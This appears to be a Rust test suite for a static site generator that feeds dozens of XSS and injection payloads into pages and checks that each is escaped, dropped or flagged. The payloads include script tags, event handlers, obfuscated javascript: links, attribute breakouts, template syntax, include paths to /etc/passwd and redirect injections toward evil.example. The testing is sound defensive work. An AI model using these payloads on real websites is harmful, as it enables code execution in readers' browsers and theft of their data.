//! A: active content and injection into pages. Every page is also held to `html::is_safe`, which is what most of these rows
//! are about.

use crate::{
    case::{case, cases},
    html,
    site::Site,
};

/// Says that a page shows a text as text.
fn shows(site: &Site, path: &str, escaped: &str) {
    assert!(site.text(path).contains(escaped), "{path} does not show {escaped}");
}

/// Elements of a page that an author wrote: what is inside `class="body"` has no class of ours.
fn count(site: &Site, path: &str, name: &str) -> usize {
    html::elements(site.text(path)).iter().filter(|one| one.name == name).count()
}

cases! {
    a01_raw_script: case("a page, a field and a title with `<script>`, in HTML blocks, in a line, in capitals", |ground| {
        ground.page("raw.md", "---\ntitle: Raw\n---\n\n<script>alert(1)</script>\n\na <ScRiPt\n>alert(2)</sCrIpT> b\n\n<div><script src=//evil.example/x.js></script></div>\n\n<svg><script>alert(4)</script></svg>\n");
        ground.page("glossary.yaml", "crm:\n  term: CRM\n  means: \"<script>alert(5)</script>\"\n");
    }).requires("no script of the author's reaches a page; in a field it is shown as text").site(|site| {
        shows(site, "term/crm.html", "&lt;script&gt;alert(5)&lt;/script&gt;");
        assert_eq!(site.text("raw.html").matches("alert(1)").count(), 0);
    });

    a02_raw_handlers: case("raw HTML with handlers, frames, objects, forms, `style`, `base`, `meta refresh`, SVG and MathML tricks", |ground| {
        ground.page("raw.md", "---\ntitle: Raw\n---\n\n<img src=x onerror=alert(1)>\n<b onclick=\"x\" style=\"position:fixed;inset:0\">b</b>\n\n<iframe src=\"https://evil.example\"></iframe>\n<object data=x></object><embed src=x><base href=\"https://evil.example/\">\n<form action=\"https://evil.example\"><button formaction=x>x</button><input name=q></form>\n<meta http-equiv=refresh content=\"0;url=https://evil.example\">\n<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>\n\n<svg onload=alert(1)><animate onbegin=alert(1)></svg>\n<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">\n<details ontoggle=x open><summary>s</summary></details><video><source onerror=x></video>\n");
    }).requires("none of them is in the site; harmless elements stay").site(|site| {
        assert_eq!(count(site, "raw.html", "b"), 1);
    });

    a03_js_links: case("links and pictures to `javascript:`, `vbscript:`, `data:`, `file:`, hidden by entities, percent signs, capitals, tabs and line ends", |ground| {
        ground.page("links.md", "---\ntitle: Links\n---\n\n[a](javascript:alert(1)) [b](JaVaScRiPt:x) [c](java&#x0A;script:x) [d](&#106;avascript:x) [e](%6aavascript:x) [f](data:text/html,x) [g](vbscript:x) [h](file:///etc/passwd) [i]( javascript:x) [j](<java\tscript:x>) [k](java&Tab;script:x) [l](\\x01javascript:x) [m](feed:javascript:x) [n](blob:x)\n\n![p](javascript:x) ![q](data:image/svg+xml,<svg/onload=x>)\n\n<a href=\"jav&#x09;ascript:x\">r</a> <a href=\"&#1;javascript:x\">s</a>\n");
    }).requires("each is a finding, and text without an address in the site").finds("link-broken", "links.md", 5).finds("link-broken", "links.md", 7).says("could run code in the reader's browser");

    a04_js_autolinks: case("autolinks and reference definitions to `javascript:` and `data:`", |ground| {
        ground.page("links.md", "---\ntitle: Links\n---\n\n<javascript:alert(1)> <JAVASCRIPT:x> <data:text/html,x> [a] [b][c] ![d]\n\n[a]: javascript:x\n[c]: <javascript:x>\n[d]: vbscript:x \"t\"\n");
    }).requires("the same as for links").finds("link-broken", "links.md", 5);

    a05_attr_breakout: case("quotes and `>` in link titles, picture words, footnote names, table cells and raw attributes", |ground| {
        ground.page("quotes.md", "---\ntitle: Quotes\n---\n\n[a](index.md \"x\\\" onmouseover=\\\"alert(1)\") ![\" onerror=\"x](nope.png '\"><svg onload=x>')[^\"><b onclick=x>]\n\n| \" onclick=\" |\n|---|\n| \"><img src=x onerror=x> |\n\n<a title='\"' href='index.md' title=\"' onclick='x\">x</a>\n\n[^\"><b onclick=x>]: \"><script>x</script>\n");
    }).requires("none leaves its attribute");

    a06_fence_info: case("code fences whose language is `\"><script>`, a path, very long, or holds entities", |ground| {
        let long = "a".repeat(5000);
        ground.page("code.md", &format!("---\ntitle: Code\n---\n\n```\"><script>alert(1)</script>\nx\n```\n\n```js\" onload=\"x\nx\n```\n\n``` ../../x {{.a onclick=x}}\nx\n```\n\n```&quot;&gt;&lt;b\nx\n```\n\n```{long}\nx\n```\n"));
    }).requires("the language is text wherever it stands");

    a07_title_breakout: case("titles, company, brand, tags and terms with `</title><script>`, quotes, `]]>` and `-->`", |ground| {
        let evil = "</title><script>alert(1)</script>\\\"'>]]>--><svg onload=x>";
        ground.page("playbook.yaml", &format!("title: \"{evil}\"\ncompany: \"{evil}\"\nas_of: 2026-11-20\nbrand: {{name: \"{evil}\"}}\n"));
        ground.page("page.md", &format!("---\ntitle: \"{evil}\"\nsummary: \"{evil}\"\ntags: [\"{evil}\"]\n---\n\nx\n"));
        ground.page("glossary.yaml", &format!("crm: {{term: \"{evil}\", means: \"{evil}\", not: \"{evil}\"}}\n"));
    }).requires("each is text in pages, feeds, JSON and Markdown").site(|site| {
        assert_eq!(site.files_with("<script>alert(1)</script>").iter().filter(|path| path.ends_with(".html")).count(), 0);
    });

    a08_heading_ids: case("headings with HTML, quotes and attribute blocks that add handlers, equal headings and one without words", |ground| {
        ground.page("heads.md", "---\ntitle: Heads\n---\n\n## <img src=x onerror=x> {#\"onclick=\"x\" .c onload=x style=x}\n\n## \"><script>x</script>\n\n## Same\n\n## Same\n\n## {#body}\n\n## 🎉\n");
    }).requires("anchors are unique and plain, and no attribute is added").site(|site| {
        let all = html::elements(site.text("heads.html"));
        let mut ids: Vec<_> = all.iter().filter_map(|one| one.get("id")).collect();
        let n = ids.len();
        ids.sort_unstable();
        ids.dedup();
        assert_eq!(ids.len(), n, "ids stand twice");
    });

    a09_script_in_json: case("`</script>`, `<!--`, `]]>`, U+2028 and U+2029 in prose, ids, terms and data", |ground| {
        ground.page("page.md", "---\ntitle: \"A </script><!-- \\u2028 \\u2029 ]]>\"\n---\n\nWords </script><!--<script> \u{2028}\u{2029} ]]> words.\n");
        ground.page("glossary.yaml", "crm: {term: \"</script>\", means: \"<!-- \\u2028 ]]>\"}\n");
    }).requires("JSON stays JSON, no page holds it, and the characters are escaped in it").site(|site| {
        for (path, text) in site.texts().filter(|(path, _)| path.ends_with(".json")) {
            assert!(!text.contains("</script>") || path.ends_with("findings.json") || path.ends_with("playbook.json") || path.starts_with("search/"), "{path}");
        }
        assert!(site.texts().filter(|(path, _)| path.ends_with(".html")).all(|(_, text)| !text.contains("application/json")));
    });

    a10_code_in_search: case("a code block of `<img src=x onerror=alert(1)>` and of half tags", |ground| {
        ground.page("code.md", "---\ntitle: Code\n---\n\n```html\n<img src=x onerror=alert(1)><scr\n```\n\n`<b onload=x>`\n");
    }).requires("the index of search holds it as words; the scripts of the site write text, never HTML").site(|site| {
        for (path, text) in site.texts().filter(|(path, _)| path.ends_with(".js")) {
            for word in ["innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "new Function", "srcdoc"] {
                assert!(!text.contains(word), "{path} uses {word}");
            }
        }
    });

    a11_proto_words: case("pages, terms and words called `constructor`, `__proto__`, `toString`, `hasOwnProperty`", |ground| {
        for word in ["constructor", "tostring", "valueof", "hasownproperty"] {
            ground.page(&format!("{word}.md"), &format!("---\ntitle: {word}\n---\n\n{word} __proto__ prototype toString hasOwnProperty.\n"));
        }
        ground.page("glossary.yaml", "constructor: {term: constructor, means: A maker.}\nproto: {term: __proto__, means: A word.}\n");
    }).requires("each is a page and in the index").site(|site| {
        assert!(site.has("constructor.html") && site.has("term/constructor.html"));
        let indexed = site.texts().filter(|(path, _)| path.starts_with("search/")).map(|(_, text)| text).collect::<String>();
        for word in ["constructor", "hasownproperty", "proto"] {
            assert!(indexed.to_lowercase().contains(word), "{word} cannot be found");
        }
    });

    a12_active_assets: case("`.html`, `.js`, `.xml`, `.svgz` and others beside the pages, and an SVG with a script, linked from a page", |ground| {
        for ending in ["html", "htm", "xhtml", "js", "mjs", "xml", "svgz"] {
            ground.page(&format!("files/active.{ending}"), "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>ACTIVE-91</script></svg>");
        }
        ground.page("page.md", "---\ntitle: Page\n---\n\n[a](files/active.html) [b](files/active.xml) [c](files/active.js) [d](files/active.svgz) [e](drawing.svg)\n");
        ground.page("drawing.svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>");
    }).requires("none is published: an error for the SVG, at its script, and a finding for links to the others").exits(1).finds("file-unreadable", "drawing.svg", 1).finds("link-broken", "page.md", 5).says("files that can run code").says("could run code in the reader's browser, so it is not published");

    a13_template_syntax: case("template syntax of ten languages in titles, prose, fields and code", |ground| {
        let evil = "{{ 7*7 }} {% include 'x' %} ${7*7} <%= 7*7 %> #{7*7} {{< ref >}} {{#include ../../outside/secret.md}} {: .x} {{ site.policy }}";
        ground.page("page.md", &format!("---\ntitle: \"{evil}\"\n---\n\n{evil}\n\n{{{{ get_env(name=\"HOME\") }}}}\n"));
        ground.page("glossary.yaml", &format!("crm: {{term: CRM, means: \"{evil}\"}}\n"));
    }).requires("it is text: nothing is counted or read").site(|site| {
        shows(site, "page.html", "{{ 7*7 }}");
        assert!(!site.text("page.html").contains("49"));
    });

    a14_include_outside: case("include, embed, snippet and front matter directives of other tools that name files outside", |ground| {
        ground.page("page.md", "---\ntitle: Page\ninclude: ../../outside/secret.md\nlayout: ../../outside/secret\ntemplate: /etc/passwd\n---\n\n!include ../../outside/secret.md\n\n--8<-- \"../../outside/secret.md\"\n\n{% include_relative ../../outside/secret.md %}\n\n.. include:: ../../outside/secret.md\n\n![x](../../outside/secret.md) [x](../../outside/secret.md) [y](/etc/passwd)\n");
    }).requires("nothing outside is read; links that leave are findings").finds("link-broken", "page.md", 16);

    a15_alias_redirect: case("aliases that are addresses: `//evil.example`, `https:`, `javascript:`, a backslash", |ground| {
        ground.page("glossary.yaml", "crm: {term: CRM, means: x, aliases: [\"//evil.example\", \"https://evil.example/\", \"javascript:alert(1)\", \"\\\\\\\\evil.example\", \"/x\"]}\n");
    }).requires("they are words that search knows, and no redirect is made of them").site(|site| {
        assert!(!site.text("_redirects").contains("evil"));
    });

    a16_redirects_file_injection: case("aliases with white space, line ends, `*`, `:splat` and `#`", |ground| {
        ground.page("glossary.yaml", "crm: {term: CRM, means: x, aliases: [\"a /* https://evil.example 301\", \"b\\n/* /x 200!\", \"c\\t/y\", \":splat\", \"*\", \"#x\", \"q /* //evil.example\"]}\n");
    }).requires("no line is ever added to `_redirects` or `_headers`").site(|site| {
        assert!(!site.text("_redirects").contains("evil") && !site.text("_headers").contains("evil"));
    });

    a17_dangling_markup: case("pages that end in an open attribute, comment, `<textarea>`, `<select>`, `<title>`, `<plaintext>`, CDATA", |ground| {
        for (name, text) in [("attribute", "<img src='https://evil.example/?"), ("comment", "<!-- "), ("textarea", "<textarea>"), ("select", "<select><option>"), ("title", "<title>"), ("plaintext", "<plaintext>"), ("cdata", "<![CDATA["), ("table", "<table><tr><td>"), ("close", "</div></article></main></body></html>")] {
            ground.page(&format!("{name}.md"), &format!("---\ntitle: {name}\n---\n\nx {text}\n\n{text}\n"));
        }
    }).requires("the page goes on after it: footer and landmarks are where they belong").site(|site| {
        for (path, text) in site.texts().filter(|(path, _)| path.ends_with(".html")) {
            let all = html::elements(text);
            let landmarks = all.iter().filter(|one| matches!(one.name.as_str(), "main" | "header" | "footer"));
            assert!(landmarks.count() >= 2 || !text.contains("<main"), "{path}");
        }
    });

    a18_utf7_and_charset: case("UTF-7 scripts, a `<meta charset=utf-7>` and a title of 2,000 letters before anything else", |ground| {
        let long = "x".repeat(2000);
        ground.page("page.md", &format!("---\ntitle: \"+ADw-script+AD4-alert(1)+ADw-/script+AD4- {long}\"\n---\n\n<meta charset=utf-7>\n\n+ADw-script+AD4-alert(1)+ADw-/script+AD4-\n"));
    }).requires("pages declare UTF-8 within their first 1,024 bytes, once").site(|site| {
        let text = site.text("page.html").to_lowercase();
        assert_eq!(text.matches("<meta charset").count(), 1);
    });

    a19_css_class_id: case("raw HTML and headings with ids, names and classes of the site's own (`pm:main`, `search`, `body`, `modal`)", |ground| {
        ground.page("page.md", "---\ntitle: Page\n---\n\n<div id=\"pm:main\" class=\"top brand find modal\">x</div>\n<a name=\"pm:points\">x</a> <p id=\"field:x\">x</p>\n<img name=body src=x><form id=search></form>\n\n## x {#pm:main}\n");
    }).requires("the site's own names stay its own, and classes of the theme are not worn").site(|site| {
        let all = html::elements(site.text("page.html"));
        assert_eq!(all.iter().filter(|one| one.get("id") == Some("pm:main")).count(), 1);
        assert!(all.iter().all(|one| one.get("class").is_none_or(|class| !class.contains("modal"))));
    });

    a20_remote_images: case("pictures, raw images, fonts and scripts from other hosts", |ground| {
        ground.page("page.md", "---\ntitle: Page\n---\n\n![p](https://evil.example/p.png) <img src=\"https://evil.example/q.png\"> ![r](//evil.example/r.png)\n");
    }).requires("pages ask nothing of others: a remote picture becomes a link, and the policy forbids the rest").site(|site| {
        let policy = site.text("_headers");
        for rule in ["default-src 'none'", "script-src 'self'", "img-src 'self' data:", "base-uri 'none'", "form-action 'none'", "frame-ancestors 'none'"] {
            assert!(policy.contains(rule), "{rule}");
        }
        assert!(!policy.contains("unsafe-"));
    });

    a21_mermaid_math: case("mermaid with a click callback and `%%{init}%%`, math with `\\href{javascript:}`", |ground| {
        ground.page("page.md", "---\ntitle: Page\n---\n\n```mermaid\n%%{init: {'theme': 'x', 'securityLevel': 'loose'}}%%\ngraph TD; A[<img src=x onerror=alert(1)>]\nclick A call alert(1)\n```\n\n$$\\href{javascript:alert(1)}{x}$$ and $\\htmlData{onclick=x}{y}$\n");
    }).requires("they are text").site(|site| {
        shows(site, "page.html", "&lt;img src=x onerror=alert(1)&gt;");
    });
}
